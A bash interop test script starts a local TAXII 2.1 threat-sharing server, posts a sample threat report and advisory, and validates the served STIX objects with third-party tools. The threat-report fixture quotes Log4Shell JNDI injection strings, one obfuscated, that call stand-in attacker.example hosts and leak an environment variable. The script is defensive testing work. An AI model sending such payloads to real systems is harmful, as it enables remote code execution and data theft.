#!/usr/bin/env bash
# Interop check of the TAXII 2.1 server with third-party clients: the OASIS taxii2-client
# (lists collections, adds a bundle, polls the status, reads objects back, and is refused
# another organization's AMBER object) and the OASIS stix2-validator on every object the
# platform serves (threat reports, advisories, posted objects) and on `vulnshare hunt --stix`.
# Starts the built `vulnshare serve` on a free port with a fresh SQLite database; members are
# made with `vulnshare admin`. Python from VENV (default target/interop-venv, made by
# `scripts/interop.sh --install`), binary from VULNSHARE_BIN (default target/debug/vulnshare).
set -euo pipefail
cd "$(dirname "$0")/.."
BIN=${VULNSHARE_BIN:-target/debug/vulnshare}
PY=${VENV:-target/interop-venv}/bin/python
work=$(mktemp -d)
port=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
db=(--data-dir "$work/data")
export VULNSHARE_USER_PASSWORD="a long enough password"
member() { # org name, e-mail -> token
  "$BIN" admin create-org "${db[@]}" --name "$1" --kind provider --country CN >/dev/null
  "$BIN" admin create-user "${db[@]}" --org "$1" --email "$2" --display-name "$1 analyst" --role member --role org_admin >/dev/null
  "$BIN" admin create-token "${db[@]}" --email "$2" --scope read --scope write
}
export A_EMAIL=soc@a.example B_EMAIL=soc@b.example
A_TOKEN=$(member "Org A" "$A_EMAIL"); B_TOKEN=$(member "Org B" "$B_EMAIL"); export A_TOKEN B_TOKEN
ADMIN=$(VULNSHARE_ADMIN_PASSWORD="$VULNSHARE_USER_PASSWORD" "$BIN" admin bootstrap "${db[@]}" --email ops@platform.example | awk '/^token/ {print $2}')
"$BIN" serve --listen "127.0.0.1:$port" "${db[@]}" 2> "$work/serve.log" &
server=$!
trap 'kill $server 2>/dev/null || true; [ -n "${KEEP:-}" ] || rm -rf "$work"' EXIT
for _ in $(seq 1 100); do grep -q "listening on" "$work/serve.log" 2>/dev/null && break; sleep 0.1; done
base="http://127.0.0.1:$port"

# Platform material: a GREEN threat report with indicators in its text.
curl -sf -X POST "$base/api/v1/reports?submit=true" -H "Authorization: Bearer $A_TOKEN" -H 'Content-Type: application/json' -d '{
  "kind": "threat", "title": "Log4Shell exploitation from 203.0.113.7", "tlp": "GREEN", "aware_at": "2021-12-10T08:00:00Z",
  "technical_characteristics": "Requests from 203.0.113.7 and 198.51.100.23 carry ${jndi:ldap://x.attacker.example:1389/Exploit} and ${${::-j}ndi:rmi://${env:USER}.cb.attacker.example/a} in User-Agent.",
  "aliases": ["CVE-2021-44228"]}' >/dev/null

# and a published TLP:CLEAR advisory (through triage and a fix, as publication rules ask).
post() { curl -sf -X POST "$base/api/v1$2" -H "Authorization: Bearer $1" -H 'Content-Type: application/json' -d "$3"; }
field() { python3 -c "import json,sys; print(json.load(sys.stdin)$1)"; }
report=$(post "$A_TOKEN" "/reports?submit=true" '{
  "kind": "own_product", "title": "Deserialization in Example Gateway", "tlp": "CLEAR", "aware_at": "2021-12-10T08:00:00Z",
  "technical_characteristics": "The admin API deserializes untrusted input.", "aliases": ["CVE-2021-45046"],
  "affected_products": [{"name": "Example Gateway", "versions": ["1.0"]}]}' | field '["report"]["id"]')
for to in triaged coordinating fix_available; do post "$ADMIN" "/reports/$report/transitions" "{\"to\": \"$to\"}" >/dev/null; done
case_id=$(post "$ADMIN" /cases "{\"title\": \"gateway\", \"report_ids\": [\"$report\"]}" | field '["case"]["id"]')
post "$ADMIN" "/cases/$case_id/advisory" '{"tlp": "CLEAR", "summary": "Deserialization in Example Gateway", "remediation": "Upgrade to 1.1"}' >/dev/null

"$PY" scripts/check-taxii.py "$base" "$work"
# The validator's console script, run through the venv's Python (the venv may have been copied).
stix2_validator() { "$PY" -c 'import sys; from stix2validator.scripts.stix2_validator import main; sys.exit(main())' "$@"; }
# Served collections hold objects whose references point into other collections or to
# identities the poster never sent, so --enforce-refs applies only to the hunter's bundle; 301
# (network-traffic ports) is explained in scripts/check-stix.sh.
for f in "$work"/served-*.json; do
  if grep -q '"objects": \[\]' "$f"; then continue; fi
  stix2_validator --version 2.1 --strict "$f"
done
"$BIN" hunt --generate-corpus 200 --seed 20211210 --out "$work/corpus" 2>/dev/null
"$BIN" hunt --stix "$work/hunt.json" --tlp AMBER "$work/corpus" >/dev/null 2>&1 || [ $? = 1 ]
stix2_validator --version 2.1 --strict --enforce-refs --disable 301 "$work/hunt.json"
echo "check-taxii: taxii2-client and stix2-validator passed"
